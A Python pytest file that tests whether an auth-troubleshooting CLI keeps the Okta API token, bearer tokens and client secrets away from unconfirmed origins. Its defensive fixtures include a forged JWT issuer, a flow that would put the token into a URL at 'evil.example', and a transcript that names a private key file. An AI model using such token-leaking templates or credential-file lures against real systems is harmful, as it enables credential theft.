"""Attacks on where credentials go: a forged issuer, a flow template, a crafted transcript.

Each credential here (the Okta API token, a bearer token, the client secret) may go only to
an origin the user gave in this session, or one a verified discovery document of a confirmed
issuer lists. The servers are real, on loopback, and record every request they get.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from tests.core.net.loopback import Reply
from tests.security.conftest import assert_clean_exit, wizard_cli
from wizard.core.checks.catalog import load_registry
from wizard.core.checks.runner import CheckRun, run_one
from wizard.core.net.fetch import NetworkProblem, fetch
from wizard.core.vocab.environment import CheckEnvironment, CheckOptions
from wizard.core.vocab.trust import OriginTrust

API_TOKEN = "00okta-api-token-value-0123456789abcdef"


def okta_logs(events):
    return lambda request: Reply(200, events)


def sent_ssws(server) -> list:
    return [r for r in server.requests if r.headers.get("authorization", "").startswith("SSWS")]


def test_the_okta_flow_never_sends_the_api_token_where_a_forged_iss_points(tmp_path, serve):
    attacker = serve({"/api/v1/logs": okta_logs([])})
    forged = _hs_token({"iss": f"{attacker.base}/oauth2/default", "cid": "0oa1", "scp": ["openid"]})
    answers = tmp_path / "answers.yaml"
    answers.write_text(
        yaml.safe_dump(
            {"facts": {"token": forged, "okta_api_token": API_TOKEN, "client_id": "0oa1"}}
        )
    )
    process = wizard_cli("run", "okta-sp-401", "--answers", str(answers))
    assert_clean_exit(process)
    assert sent_ssws(attacker) == []
    # The flow asks for the org URL instead of reading it from the token; unanswered, it
    # goes on by hand.
    assert "must come from you" in process.stdout
    assert API_TOKEN not in process.stdout + process.stderr


def test_the_okta_flow_sends_the_api_token_to_the_org_url_answered(tmp_path, serve):
    attacker = serve({"/api/v1/logs": okta_logs([])})
    org = serve({"/api/v1/logs": okta_logs([])})
    forged = _hs_token({"iss": f"{attacker.base}/oauth2/default", "cid": "0oa1", "scp": ["openid"]})
    facts = {"token": forged, "okta_api_token": API_TOKEN, "client_id": "0oa1"}
    answers = tmp_path / "answers.yaml"
    answers.write_text(yaml.safe_dump({"facts": {**facts, "okta_domain": org.base}}))
    process = wizard_cli("run", "okta-sp-401", "--answers", str(answers))
    assert_clean_exit(process)
    assert sent_ssws(attacker) == []
    assert len(sent_ssws(org)) >= 1
    assert API_TOKEN not in process.stdout + process.stderr


def test_the_okta_api_token_goes_to_the_org_the_user_named(serve):
    org = serve({"/api/v1/logs": okta_logs([])})
    process = wizard_cli(
        "check",
        "--allow-http",
        "--okta-domain",
        org.base,
        "--json",
        extra_env={"WIZARD_OKTA_API_TOKEN": API_TOKEN},
    )
    assert_clean_exit(process)
    assert len(sent_ssws(org)) >= 1


async def test_the_allow_list_is_consulted_before_any_credential_leaves(serve):
    server = serve({"/": lambda r: Reply(200, {})})
    env = CheckEnvironment(options=CheckOptions(timeout=3), trust=OriginTrust())
    try:
        for headers, data in (({"Authorization": "Bearer x"}, None), ({}, {"token": "t"})):
            with pytest.raises(NetworkProblem, match="nobody confirmed"):
                await fetch(env, server.url("/"), method="POST", headers=headers, data=data)
        assert server.requests == []
        env.trust.confirm(server.base)
        await fetch(env, server.url("/"), headers={"Authorization": "Bearer x"})
        assert len(server.requests) == 1
    finally:
        await env.aclose()


async def test_a_confirmed_issuers_discovery_lists_endpoints_that_may_get_the_token(issuer, serve):
    # The userinfo endpoint lives on another origin; the confirmed issuer's document names it.
    other = serve({"/userinfo": lambda r: Reply(200, {"sub": "user-1"})})
    issuer.server.routes["/.well-known/openid-configuration"] = lambda r: Reply(
        200,
        {
            "issuer": issuer.issuer,
            "jwks_uri": issuer.server.url("/jwks"),
            "userinfo_endpoint": other.url("/userinfo"),
        },
    )
    env = CheckEnvironment(options=CheckOptions(timeout=3), trust=OriginTrust.of([issuer.issuer]))
    spec = load_registry()["userinfo.request"]
    try:
        run = CheckRun("u", spec, {"token": issuer.mint(), "issuer": issuer.issuer})
        result = await run_one(run, env)
    finally:
        await env.aclose()
    assert other.count("/userinfo") == 1, result.detail


def test_a_flow_cannot_put_a_token_into_a_url(tmp_path):
    flows = tmp_path / "flows"
    flows.mkdir()
    (flows / "leak.yaml").write_text(
        yaml.safe_dump(
            {
                "id": "leak",
                "title": "Leaks the token",
                "description": "d",
                "start": "a",
                "facts": {"token": {"type": "token", "prompt": "token"}},
                "nodes": {
                    "a": {
                        "checks": [
                            {
                                "id": "resource.request",
                                "with": {"resource_url": "https://evil.example/?t={token}"},
                            }
                        ],
                        "next": [{"goto": "b"}],
                    },
                    "b": {"resolution": {"title": "t", "explanation": "e", "steps": ["s"]}},
                },
            }
        )
    )
    process = wizard_cli("flows", "lint", str(flows / "leak.yaml"))
    assert_clean_exit(process)
    assert process.returncode == 1
    assert "puts the secret fact 'token' into 'resource_url'" in process.stdout


def test_a_user_flow_replacing_a_shipped_one_says_so(tmp_path):
    flows = tmp_path / "flows"
    flows.mkdir()
    shipped = Path(__file__).resolve().parents[2] / "flows" / "triage.yaml"
    (flows / "triage.yaml").write_text(shipped.read_text().replace("title:", "title: Fake", 1))
    listing = wizard_cli("flows", "list", "--flows", str(flows))
    assert_clean_exit(listing)
    assert "replaces the shipped flow" in listing.stdout
    assert "replaces the one in" in listing.stderr
    run = wizard_cli("run", "triage", "--flows", str(flows), "--answers", str(_empty(tmp_path)))
    assert "replaces the one in" in run.stderr


# --- replay and resume treat their file as untrusted ---------------------------------------


@pytest.fixture
def crafted_transcript(tmp_path, issuer):
    """A real transcript, then edited as an attacker would: its URLs and paths point away."""
    answers = tmp_path / "answers.yaml"
    token = issuer.mint()
    answers.write_text(
        yaml.safe_dump(
            {
                "facts": {
                    "token": token,
                    "issuer": issuer.issuer,
                    "resource_url": issuer.server.url("/api"),
                }
            }
        )
    )
    saved = tmp_path / "session.json"
    made = wizard_cli(
        "run", "generic-bearer-401", "--answers", str(answers), "--transcript", str(saved)
    )
    assert saved.exists(), made.stderr
    issuer.server.requests.clear()
    return saved, token


def test_replay_lists_what_the_file_names_and_sends_nothing_unless_told(crafted_transcript, issuer):
    saved, token = crafted_transcript
    process = wizard_cli("replay", str(saved), "--fact", f"token={token}")
    assert_clean_exit(process)
    assert process.returncode == 2
    assert f"contact {issuer.issuer}" in process.stdout
    assert "nothing was sent or read" in process.stderr
    assert issuer.server.requests == []


def test_replay_with_yes_still_prints_the_list_first(crafted_transcript, issuer):
    saved, token = crafted_transcript
    process = wizard_cli("replay", "--yes", str(saved), "--fact", f"token={token}")
    assert_clean_exit(process)
    assert process.stdout.index(f"contact {issuer.issuer}") < process.stdout.index("replaying")
    assert issuer.server.requests  # agreed to: it went


def test_replay_never_reads_a_local_file_the_file_names_without_agreement(tmp_path):
    from wizard.core.session.reading import load_transcript
    from wizard.core.session.untrusted import touched_by

    secret_file = tmp_path / "id_rsa"
    secret_file.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n")
    document = _minimal_transcript(
        {"roles_mapping": {"value": str(secret_file), "type": "file", "source": "user"}}
    )
    path = tmp_path / "t.json"
    path.write_text(json.dumps(document))
    assert str(secret_file) in touched_by(load_transcript(path)).paths
    process = wizard_cli("replay", str(path))
    assert process.returncode in (2, 4)
    assert "BEGIN OPENSSH" not in process.stdout + process.stderr


def _minimal_transcript(facts: dict) -> dict:
    from tests.security.test_bounded import _transcript_text

    document = json.loads(_transcript_text())
    document["facts"].update(facts)
    return document


def _empty(tmp_path) -> Path:
    path = tmp_path / "empty-answers.yaml"
    path.write_text("facts: {}\n")
    return path


def _hs_token(claims: dict) -> str:
    import jwt

    return jwt.encode(claims, "k" * 32, algorithm="HS256")


async def test_a_refused_send_is_recorded_for_the_face_to_ask_about_once(serve):
    server = serve({"/": lambda r: Reply(200, {})})
    env = CheckEnvironment(options=CheckOptions(timeout=3), trust=OriginTrust())
    try:
        with pytest.raises(NetworkProblem, match="the Okta API token"):
            await fetch(env, server.url("/api/v1/logs"), headers={"Authorization": "SSWS x"})
        with pytest.raises(NetworkProblem, match="the client id and secret"):
            await fetch(env, server.url("/t"), method="POST", data={"client_secret": "s"})
        # One question per origin, naming the first credential refused there.
        assert env.trust.unasked() == [(server.base, "the Okta API token")]
        env.trust.decline(server.base)
        assert env.trust.unasked() == []
        with pytest.raises(NetworkProblem):  # declined stays refused
            await fetch(env, server.url("/"), headers={"Authorization": "Bearer x"})
        assert env.trust.unasked() == [] and server.requests == []
    finally:
        await env.aclose()
